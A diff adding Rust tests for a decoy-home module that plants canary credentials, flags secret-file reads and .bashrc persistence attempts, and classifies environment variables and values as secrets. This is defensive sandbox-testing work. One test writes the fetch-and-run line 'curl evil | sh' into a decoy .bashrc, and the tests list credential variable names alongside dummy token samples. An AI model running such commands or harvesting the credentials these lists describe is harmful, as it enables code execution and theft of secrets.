@@ -1,0 +1,114 @@
+//! Tests of `decoys`.
+
+use super::*;
+
+#[test]
+fn decoys_hold_unique_canaries_and_reads_are_seen() {
+    let a = DecoyHome::plant(Path::new("/home/u")).unwrap();
+    let b = DecoyHome::plant(Path::new("/home/u")).unwrap();
+    assert_ne!(a.canaries()[0].value, b.canaries()[0].value);
+    let npmrc = std::fs::read_to_string(b.host_dir().join(".npmrc")).unwrap();
+    assert!(npmrc.contains(&b.canaries()[0].value));
+    let _ = std::fs::read(a.host_dir().join(".aws/credentials")).unwrap();
+    std::fs::write(a.host_dir().join(".bashrc"), "curl evil | sh\n").unwrap();
+    let f = a.findings();
+    assert!(
+        f.iter()
+            .any(|x| x.kind == FindingKind::SecretRead && x.target == "/home/u/.aws/credentials"),
+        "{f:?}"
+    );
+    assert!(
+        f.iter()
+            .any(|x| x.kind == FindingKind::PersistenceAttempt && x.target == "/home/u/.bashrc"),
+        "{f:?}"
+    );
+    assert_eq!(f.len(), 2, "only what was done: {f:?}");
+}
+
+#[test]
+fn credentials_are_recognised_by_name_and_by_value() {
+    for name in [
+        "DATABASE_URL",
+        "PGPASSWORD",
+        "GITHUB_PAT",
+        "API_KEY",
+        "STRIPE_SECRET_KEY",
+        "SECRET_KEY_BASE",
+        "SENTRY_DSN",
+        "GOOGLE_CREDENTIALS",
+        "DOCKER_AUTH_CONFIG",
+        "NPM_TOKEN",
+        "npm_config__authToken",
+        "npm_config_//registry.npmjs.org/:_authToken",
+        "AWS_ACCESS_KEY_ID",
+        "MY_SERVICE_PASS",
+    ] {
+        assert!(is_secret_var(name), "{name}");
+    }
+    for name in [
+        "PATH",
+        "HOME",
+        "CI",
+        "GITHUB_ACTIONS",
+        "npm_config_cache",
+        "npm_package_name",
+        "npm_config_auth_type",
+        "SSH_AUTH_SOCK",
+        "NODE_OPTIONS",
+        "KEYBOARD",
+        "CFLAGS",
+        "GIT_AUTHOR_NAME",
+        "XDG_SESSION_TYPE",
+        "DBUS_SESSION_BUS_ADDRESS",
+    ] {
+        assert!(!is_secret_var(name), "{name}");
+    }
+    for value in [
+        "postgres://app:hunter2@db.internal:5432/app",
+        "-----BEGIN RSA PRIVATE KEY-----\nMII",
+        "{\"type\":\"service_account\",\"private_key\":\"x\"}",
+        "ghp_0123456789abcdefABCDEF0123456789abcd",
+        "AKIAIOSFODNN7EXAMPLE",
+        "sk_live_51H8xYzAbCdEfGh",
+        "Zx9Qm2Lr7Tb4Wn8Kp3Vc6Hs1Jd5Fg0Ay",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXZhbHVl",
+    ] {
+        assert!(looks_secret(value), "{value}");
+    }
+    for value in [
+        "/usr/local/bin:/usr/bin:/bin",
+        "https://registry.npmjs.org/",
+        "http://proxy.internal:3128",
+        "en_US.UTF-8",
+        "0123456789abcdef0123456789abcdef01234567",
+        "true",
+        "--max-old-space-size=4096",
+        "xterm-256color",
+        "sha512-7ScDKNy1xoYOG67gsY496YffOBzz0W/Ib2U3XJZ0uPr9BEWaWp8FjWIvC04A9Uqjpxq4tMWDC47B4c7zL20Tuw==",
+        // Temporary paths have random names: a path is never a token.
+        "/tmp/ringfence-test-bjKP6M/home/app",
+        "/tmp/XyZ0aBcD9eFgH1iJkL2mNoP3qRsT4uVw5/x",
+    ] {
+        assert!(!looks_secret(value), "{value}");
+    }
+    assert!(!value_may_be_secret("npm_package_integrity"));
+}
+
+#[test]
+fn secret_variables_are_replaced_by_canaries() {
+    let mut d = DecoyHome::plant(Path::new("/h")).unwrap();
+    let mut env = vec![
+        ("NPM_TOKEN".to_string(), "npm_REALSECRET".to_string()),
+        ("MY_SERVICE_API_KEY".to_string(), "REAL2".to_string()),
+        ("PATH".to_string(), "/usr/bin".to_string()),
+    ];
+    d.scrub_env(&mut env);
+    assert!(!env.iter().any(|(_, v)| v.contains("REAL")), "{env:?}");
+    assert!(env.iter().any(|(k, _)| k == "GITHUB_TOKEN"));
+    assert!(env.contains(&("PATH".into(), "/usr/bin".into())));
+    assert!(
+        d.canaries()
+            .iter()
+            .any(|c| c.id == "env:MY_SERVICE_API_KEY")
+    );
+}
